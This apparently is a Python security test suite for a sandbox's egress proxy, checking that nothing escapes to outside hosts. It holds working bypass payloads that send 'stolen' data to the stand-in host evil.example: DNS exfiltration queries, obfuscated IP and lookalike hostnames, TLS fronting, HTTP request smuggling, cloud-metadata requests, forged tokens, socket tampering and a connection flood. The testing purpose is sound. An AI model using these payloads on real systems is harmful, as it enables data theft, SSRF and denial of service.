# Copyright (c) 2026 The DockerSandboxApp authors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The way out: past the proxy, and through it to where no rule leads. What counts is what arrives in the world beyond."""

from __future__ import annotations

import time

from security.cases import Scene, case
from security.outside import API, INWARDS, MIRROR, OTHER, PINNED, THEIRS, WILD
from services.world import EVIL, GOOD, RESOLVER

PROXY = r"""
import ssl
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def proxy(data=b""):
    one = socket.create_connection(("127.0.0.1", 3128), 3)
    one.settimeout(4)
    one.sendall(data)
    return one
def say(data):
    with proxy(data) as one:
        one.shutdown(socket.SHUT_WR)
        while one.recv(65536):
            pass
def asked(authority, head=""):
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{head}\r\n".encode()
def through(authority, head=""):
    one = proxy(asked(authority, head))
    if b" 200 " not in one.recv(65536).split(b"\r\n")[0]:
        raise OSError("refused")
    return one
# How what is said first is *cut* up; when it is *early*, it is sent before the answer to CONNECT has come.
def tls(authority, name, cut=lambda data: [data], early=False):
    came, goes = ssl.MemoryBIO(), ssl.MemoryBIO()
    speaks = context.wrap_bio(came, goes, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        speaks.do_handshake()
    first = cut(goes.read())
    one = proxy(asked(authority) + b"".join(first)) if early else through(authority)
    if early and b" 200 " not in one.recv(39).split(b"\r\n")[0]:
        raise OSError("refused")
    for part in () if early else first:
        one.sendall(part)
        time.sleep(0.005)
    while True:
        came.write(one.recv(65536) or b"\0" * 9)
        with contextlib.suppress(ssl.SSLWantReadError):
            speaks.do_handshake()
            one.sendall(goes.read())
            speaks.write(b"stolen")
            return one.sendall(goes.read())
        one.sendall(goes.read())
def records(data):
    return [b"\x16\x03\x01\0" + bytes([len(part)]) + part for part in (data[5 + at : 105 + at] for at in range(0, len(data) - 5, 100))]
"""


def _out(scene: Scene, script: str, seconds: float = 30, more: dict[str, str] | None = None) -> str:
    """Return what came out that no rule lets out while a script ran."""
    outside = scene.arena.outside
    outside.quiet()
    given = {"EVIL": EVIL, "GOOD": GOOD, "RESOLVER": RESOLVER, "API": API, "MIRROR": MIRROR, "WILD": WILD, **(more or {})}
    scene.said(PROXY + script, seconds, given)
    found = outside.arrived()
    first = found[0] if found else None
    return f"{len(found)} arrivals, first {first.kind} at {first.address}:{first.port} {first.what[:60]!r}" if first else ""


DIRECT = """
for address in (E["EVIL"], E["GOOD"], "169.254.169.254", "10.0.0.1", "2606:4700:4700::1111"):
    for port in (443, 80, 22):
        attempt(lambda: socket.create_connection((address, port), 1))
"""


@case("connect without the proxy, to an allowed address and to others", "interface", source="gh-aw-firewall A2, A3, A12")
def direct(scene: Scene) -> str:
    return _out(scene, DIRECT)


@case("datagrams and raw sockets: DNS, QUIC, ping", "interface", source="gh-aw-firewall A10, A11")
def datagrams(scene: Scene) -> str:
    return _out(
        scene,
        r"""
query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"
for address in (E["RESOLVER"], E["EVIL"], "127.0.0.11", "255.255.255.255"):
    for port in (53, 443):
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (address, port)))
attempt(lambda: socket.getaddrinfo("secret.evil.example", 443))
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255)):
    attempt(lambda: socket.socket(socket.AF_INET, kind, protocol).sendto(b"\x08\0\0\0\0\0\0\0", (E["EVIL"], 0)))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300))
""",
    )


@case("names that look allowed, and a denied name as what carries data out by DNS", "decisions", source="OpenShell #1169, microsandbox #675")
def names(scene: Scene) -> str:
    return _out(
        scene,
        r"""
api, wild = E["API"], E["WILD"]
lookalikes = [f"{api}.evil.example", f"x{api}", f"x{wild}", wild, f"{api}\0.evil.example", f"evil.example#{api}", f"{api}@evil.example"]
lookalikes += ["evil.example", "EVIL.example.", f"evil.example\t{api}", f"evil.example%23.{wild}", f"evil.example/.{wild}", "secret.evil.example"]
for name in lookalikes:
    attempt(lambda: tls(f"{name}:443", "evil.example"))
    attempt(lambda: say(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()))
""",
    )


@case("bare addresses, in every way to write one", "decisions", source="gh-aw-firewall #1160")
def addresses(scene: Scene) -> str:
    return _out(
        scene,
        r"""
a, b, c, d = map(int, E["EVIL"].split("."))
ways = [E["EVIL"], f"{a:#x}.{b:#x}.{c:#x}.{d:#x}", f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", str(a << 24 | b << 16 | c << 8 | d), f"{a}.{b}.{c << 8 | d}"]
ways += [E["EVIL"] + ".", f"[::ffff:{E['EVIL']}]", "[2606:4700:4700::1111]", f"[::ffff:{a:02x}{b:02x}:{c:02x}{d:02x}%25lo]", f"{E['API']}@{E['EVIL']}"]
ways += [E["EVIL"].translate({48 + n: 0xFF10 + n for n in range(10)}), E["RESOLVER"]]
for way in ways:
    attempt(lambda: tls(f"{way}:443", None))
    attempt(lambda: say(f"GET http://{way}/ HTTP/1.1\r\nHost: {way}\r\n\r\n".encode()))
""",
    )


@case("other ports of an allowed host", "decisions", source="gh-aw-firewall A5")
def ports(scene: Scene) -> str:
    return _out(
        scene,
        r"""
for port in ("22", "25", "8443", "8080", "443:22", "022", "65558", " 22"):
    attempt(lambda: through(f"{E['API']}:{port}").sendall(b"stolen"))
""",
    )


@case("names of rules that lead to this host, to private and metadata addresses", "decisions", source="microsandbox, DNS rebinding")
def inwards(scene: Scene) -> str:
    return _out(
        scene,
        r"""
for name in E["INWARDS"].split():
    for port in (443, 80):
        attempt(lambda: through(f"{name}:{port}").sendall(b"stolen"))
for address in ("169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "100.100.100.200"):
    attempt(lambda: say(f"GET http://{address}/latest/meta-data/ HTTP/1.1\r\nHost: {address}\r\n\r\n".encode()))
""",
        more={"INWARDS": " ".join(INWARDS)},
    )


@case("a pinned name that has moved", "decisions")
def moved(scene: Scene) -> str:
    return _out(scene, f"tls('{PINNED}:443', '{PINNED}')")


@case("another name inside the tunnel, none, or one cut in pieces or sent ahead", "decisions", source="microsandbox #709, OpenSandbox #1759")
def fronting(scene: Scene) -> str:
    return _out(
        scene,
        """
for name in ("evil.example", None):
    for cut in (lambda data: [data], records, lambda data: [data[at : at + 7] for at in range(0, len(data), 7)]):
        for early in (False, True):
            attempt(lambda: tls(E["API"] + ":443", name, cut, early))
""",
    )


@case("what is not TLS inside the tunnel", "decisions")
def untold(scene: Scene) -> str:
    return _out(
        scene,
        r"""
for text in (b"GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"SSH-2.0-x\r\n", b"\x16\x03\x01\0\x05hello"):
    def talk():
        with through(E["API"] + ":80") as one:
            one.sendall(text)
            one.recv(65536)
    attempt(talk)
    attempt(lambda: say(asked(E["API"] + ":80") + text))
""",
    )


@case("a request that is read in two ways, and one behind another", "decisions", source="httpjail #57")
def smuggling(scene: Scene) -> str:
    return _out(
        scene,
        r"""
line = f"GET http://{E['MIRROR']}/open HTTP/1.1\r\n"
good = f"Host: {E['MIRROR']}\r\n"
behind = "GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n"
for head in ("Host: evil.example\r\n", good + "Host: evil.example\r\n", "Host: evil.example\r\n" + good, good + " evil.example\r\n"):
    attempt(lambda: say(f"{line}{head}\r\n".encode()))
for head in ("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: xchunked\r\n", "Content-Length: 3\r\nContent-Length: 0\r\n", ""):
    for body in ("0\r\n\r\n", ""):
        attempt(lambda: say(f"{line}{good}{head}\r\n{body}{behind}".encode()))
attempt(lambda: say(f"{line}{good}X: y\nHost: evil.example\r\n\r\n".encode()))
attempt(lambda: say(f"{line}{good}Connection: host\r\n\r\n{behind}".encode()))
""",
    )


@case("methods and paths that no rule names", "decisions", source="OpenShell #2317")
def paths(scene: Scene) -> str:
    return _out(
        scene,
        r"""
for path in ("/stolen", "/open/../stolen", "/open/%2e%2e/stolen", "/open%2f..%2fstolen", "//stolen", "/opened", "/open\\..\\stolen", "/%6fpen/..;/stolen", ""):
    attempt(lambda: say(f"GET http://{E['MIRROR']}{path} HTTP/1.1\r\nHost: {E['MIRROR']}\r\n\r\n".encode()))
for method in ("POST", "PUT", "DELETE", "TRACE", "get", "PATCH"):
    attempt(lambda: say(f"{method} http://{E['MIRROR']}/open HTTP/1.1\r\nHost: {E['MIRROR']}\r\nContent-Length: 0\r\n\r\n".encode()))
""",
    )


@case("follow an allowed server to another", "decisions")
def redirected(scene: Scene) -> str:
    return _out(scene, "import urllib.request\nattempt(lambda: urllib.request.urlopen('http://' + E['MIRROR'] + '/redirect', timeout=5))")


@case("data in the names below a wildcard", "decisions")
def labels(scene: Scene) -> str:
    return _out(scene, "for number in range(30): attempt(lambda: through(f'data-{number}.' + E['WILD'] + ':443'))")


@case("tokens of another sandbox, for another host, used up, revoked, and past their time", "decisions")
def tokens(scene: Scene) -> str:
    world = scene.arena.outside.world

    def mint(**change: object) -> str:
        given = {"sandbox": scene.box.of, "rule": {"host": "evil.example"}, "seconds": 60, "reason": "an attack", **change}
        said = world.command("mint", **given)
        if "revoked" in change:
            world.command("revoke", id=said["id"])
        return str(said["secret"])

    secrets = [mint(sandbox=OTHER), mint(rule={"host": "evil.example.net"}), mint(revoked=True), mint(seconds=1), "", "x" * 40]
    time.sleep(1.1)
    return _out(
        scene,
        r"""
for secret in E["SECRETS"].split(","):
    for word in (f"Bearer {secret}", "Basic " + base64.b64encode(f"token:{secret}".encode()).decode()):
        attempt(lambda: through("evil.example:443", f"Proxy-Authorization: {word}\r\n").sendall(b"stolen"))
""",
        more={"SECRETS": ",".join(secrets)},
    )


@case("another sandbox's socket, root's own, and another one in place of its own", "one socket each", source="leash #54")
def doors(scene: Scene) -> str:
    return _out(
        scene,
        r"""
found = [os.path.join(folder, name) for top in ("/run", "/proc/1/root/run") for folder, _, names in os.walk(top) for name in names if name.endswith(".sock")]
for folder in ("/run/guardrails/egress", "/run/guardrails/egress/..", E["FOLDER"]):
    for name in ("admin.sock", "event.sock", "other/egress.sock", "sandboxes/other/egress.sock", "../other/egress.sock", "egress.sock"):
        found.append(os.path.join(folder, name))
for path in dict.fromkeys(found):
    def ask():
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(3)
            one.connect(path)
            one.sendall(asked(E["THEIRS"] + ":443"))
            one.recv(65536)
            message = b'{"command": "mint", "sandbox": "%s", "seconds": 60, "reason": "x", "rule": {"host": "evil.example"}}' % E["NAME"].encode()
            one.sendall(struct.pack(">I", len(message)) + message)
            print(one.recv(65536))
    attempt(ask)
    attempt(lambda: os.rename(path, path + T))
    attempt(lambda: os.unlink(path))
attempt(lambda: os.mkdir("/run/guardrails/egress/" + T))
""",
        more={"FOLDER": str(scene.arena.outside.world.folder), "NAME": scene.box.of, "THEIRS": THEIRS},
    )


@case("this host by its addresses and names, through the proxy", source="gh-aw-firewall #207")
def this_host(scene: Scene) -> str:
    before = len(scene.arena.listener.hits)
    found = _out(
        scene,
        r"""
for name in ("127.0.0.1", "localhost", "172.17.0.1", "host.docker.internal", "gateway.docker.internal", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "127.1"):
    attempt(lambda: through(f"{name}:{E['PORT']}").sendall(b"stolen"))
    attempt(lambda: say(f"GET http://{name}:{E['PORT']}/ HTTP/1.1\r\nHost: {name}:{E['PORT']}\r\n\r\n".encode()))
""",
    )
    return found or ("a connection arrived" if scene.arena.listener.hits[before:] else "")


@case("out while egress has ended", "interface", source="OpenSandbox")
def egress_gone(scene: Scene) -> str:
    world = scene.arena.outside.world
    scene.arena.outside.quiet()
    world.kill()
    try:
        return _out_of(scene)
    finally:
        world.start()


def _out_of(scene: Scene) -> str:
    scene.said(PROXY + DIRECT + "attempt(lambda: tls(E['API'] + ':443', E['API']))", 30, {"EVIL": EVIL, "GOOD": GOOD, "API": API})
    # Not even what rules allow gets out.
    arrived = list(scene.arena.outside.world.sinks.arrived)
    return f"{len(arrived)} arrivals, first {arrived[0]}" if arrived else ""


@case("thousands of connections, a slow drip, and an endless stream: another sandbox gets out as before")
def flood(scene: Scene) -> str:
    script = r"""
held = []
def keep(data):
    while True:
        try:
            held.append(proxy(data))
        except OSError:
            time.sleep(0.05)
def stream():
    while True:
        with contextlib.suppress(OSError):
            one = proxy(f"GET http://{E['MIRROR']}/open HTTP/1.1\r\n".encode())
            while True:
                one.sendall(b"X: " + b"y" * 60000)
for data in (b"", b"C", asked(E["API"] + ":443"), b"GET http://"):
    threading.Thread(target=keep, args=(data,), daemon=True).start()
threading.Thread(target=stream, daemon=True).start()
time.sleep(3)
hold()
"""
    scene.arena.outside.quiet()
    with scene.attack(PROXY + script, more={"API": API, "MIRROR": MIRROR}):
        served = [scene.arena.outside.serves() for _time in range(5)]
    return "" if all(served) else f"another sandbox got out {sum(served)} times of {len(served)}"
